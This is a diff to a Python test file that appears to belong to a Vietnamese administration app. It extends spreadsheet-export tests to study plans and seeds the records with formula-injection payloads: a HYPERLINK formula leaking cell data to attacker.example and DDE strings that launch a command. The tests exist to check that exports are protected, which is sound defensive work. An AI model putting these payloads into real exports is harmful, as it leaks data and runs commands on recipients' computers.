@@ -22,6 +22,7 @@ from neuguong.core.actors import SYSTEM
 from neuguong.orgs.tests.factories import PersonFactory, UserFactory, grant
 from neuguong.reception import services as reception
 from neuguong.reception.tests.conftest import client_for, days_ago, receive
+from neuguong.study import services as study
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Xem chi tiết")'
 PLUS, MINUS, AT = "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -49,7 +50,13 @@ def exports(province, commune, unit_admin):
     grant(system_admin, Role.SYSTEM_ADMIN, province)
     account_services.grant_role(user_id=officer.pk, role=Role.RECEPTION_STAFF, unit_id=province.pk,
                                 acting_user=system_admin, reason=FORMULA)
+    theme = study.theme_create(unit_id=commune.pk, year=days_ago(0).year, level="provincial", title=FORMULA,
+                               acting_user=unit_admin)
+    plan = study.plan_create(unit_id=commune.pk, theme_id=theme.pk, title=PLUS, acting_user=unit_admin)
+    study.item_add(plan_id=plan.pk, content=FORMULA, owner_name=AT, due_on=days_ago(0), acting_user=unit_admin)
     return {
+        "study:plans": (unit_admin, "/study/plans/?export=xlsx"),
+        "study:plan_items_export": (unit_admin, f"/study/plans/{plan.pk}/items.xlsx"),
         "accounts:restricted_grants": (system_admin, "/accounts/restricted/?export=xlsx"),
         "orgs:people": (unit_admin, "/people/?export=xlsx"),
         "reception:petitions": (officer, "/reception/petitions/?export=xlsx"),
